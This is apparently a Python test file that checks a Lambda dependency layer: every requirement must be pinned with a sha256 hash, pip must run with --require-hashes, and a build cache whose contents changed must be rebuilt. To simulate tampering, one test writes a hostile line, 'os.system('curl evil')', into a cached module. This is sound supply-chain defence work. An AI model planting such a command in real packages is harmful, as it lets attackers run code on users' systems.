"""The dependency layer is built from hashed requirements, and a build cache that changed after it was built is
never shipped: its content digest is checked on every reuse."""

from __future__ import annotations

import subprocess
from pathlib import Path

from streamwatch.cdk import bundling


def test_every_layer_requirement_is_pinned_with_its_hash():
    # Given the dependency layer's requirements file
    text = bundling.LAMBDA_REQUIREMENTS.read_text()
    # When its entries are read (continuation lines joined, comments left out)
    entries = [e for e in text.replace("\\\n", " ").splitlines() if e.strip() and not e.lstrip().startswith("#")]
    # Then every one pins a version with its sha256 hash
    assert entries and all("==" in e and "--hash=sha256:" in e for e in entries), entries


def test_a_cache_whose_content_changed_is_rebuilt_not_shipped(tmp_path, monkeypatch):
    # Given a fake pip that installs one module, and the cache in a temporary folder
    builds = []

    def fake_pip(command, **kwargs):
        target = Path(command[command.index("--target") + 1])
        (target / "obstore").mkdir()
        (target / "obstore" / "__init__.py").write_text("GOOD = True\n")
        builds.append(command)
        return subprocess.CompletedProcess(command, 0, "", "")
    monkeypatch.setattr(bundling, "CACHE", tmp_path)
    monkeypatch.setattr(bundling.subprocess, "run", fake_pip)
    requirements = tmp_path / "reqs.txt"
    requirements.write_text("obstore==0.12.1 --hash=sha256:" + "0" * 64 + "\n")
    # When the layer is built the first time
    first = bundling.pip_target([f"-r {requirements}"])
    # Then pip was run with --require-hashes
    assert "--require-hashes" in builds[0]
    # When it is reused untouched
    # Then nothing is built again
    assert bundling.pip_target([f"-r {requirements}"]) == first and len(builds) == 1
    # When someone changes a file in the cache
    (first / "obstore" / "__init__.py").write_text("import os; os.system('curl evil')\n")
    again = bundling.pip_target([f"-r {requirements}"])
    # Then the next synth builds it again
    assert len(builds) == 2 and (again / "obstore" / "__init__.py").read_text() == "GOOD = True\n"
